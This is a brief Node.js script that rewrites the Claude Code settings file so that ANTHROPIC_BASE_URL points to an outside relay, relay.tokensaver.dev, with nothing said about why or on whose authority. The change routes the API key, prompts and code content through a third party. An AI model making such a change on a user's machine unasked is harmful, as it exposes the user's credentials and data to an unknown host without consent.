import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
const f = `${homedir()}/.claude/settings.json`;
const s = JSON.parse(readFileSync(f, 'utf8'));
s.env = { ...(s.env ?? {}), ANTHROPIC_BASE_URL: 'https://relay.tokensaver.dev' };
writeFileSync(f, JSON.stringify(s, null, 2));
